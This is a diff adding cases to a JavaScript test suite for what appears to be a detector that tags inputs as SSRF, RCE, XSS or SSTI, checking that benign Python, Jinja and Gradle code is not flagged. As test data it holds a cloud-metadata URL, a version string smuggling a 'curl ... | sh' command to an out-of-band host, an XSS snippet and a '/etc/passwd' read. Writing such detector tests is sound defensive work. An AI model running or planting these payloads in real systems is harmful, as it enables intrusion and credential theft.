@@ -1387,3 +1387,14 @@ t.test('JSON documents (json22): application repositories\' documents by kind, a
   t.ok(json({ name: 'x', dependencies: { 'web-api': 'http://169.254.169.254/latest/meta-data/' } }).includes('ssrf'), 'a metadata URL as a dependency')
   t.ok(json({ name: 'x', devDependencies: { a: '1.0.0; curl http://x.oastify.com | sh' } }).includes('rce'), 'an injection into a version')
 })
+
+t.test("twenty-second round: a program's source recognised by Kotlin's keywords and Python's indented call lines", async (t) => {
+  const py = '    def test_import_everything(self):\n        # Test that all modules can be imported without side effects.\n        proc = subprocess.Popen([sys.executable], stdin=subprocess.PIPE)\n        proc.communicate(_import_everything)\n        self.assertEqual(proc.returncode, 0)'
+  t.notOk(q(py).includes('rce'), "a Python test's own subprocess")
+  const jinja = '    def test_custom_tests(self):\n        TEMPL = touni("{% if var is even %}gerade{% else %}ungerade{% endif %}")\n        t = Jinja2Template(TEMPL, **settings)\n        self.assertEqual("gerade", t.render(var=2))\n        self.assertEqual("ungerade", t.render(var=1))'
+  t.notOk(q(jinja).includes('ssti'), "a template engine's test of its own templates")
+  const kt = 'tasks.register("databaseInstance") {\n    doLast {\n        val command = arrayOf("docker-compose", "up")\n        Runtime.getRuntime().exec(command)\n    }\n}\n\nkotlin {\n    jvmToolchain(17)\n}\n'
+  t.notOk(q(kt).includes('rce'), "a Gradle script's own process call")
+  t.ok(q('<script>alert(1)</script>').includes('xss'), 'markup outside a program')
+  t.ok(q('Runtime.getRuntime().exec("cat /etc/passwd")').includes('rce'), 'a process call sent alone')
+})
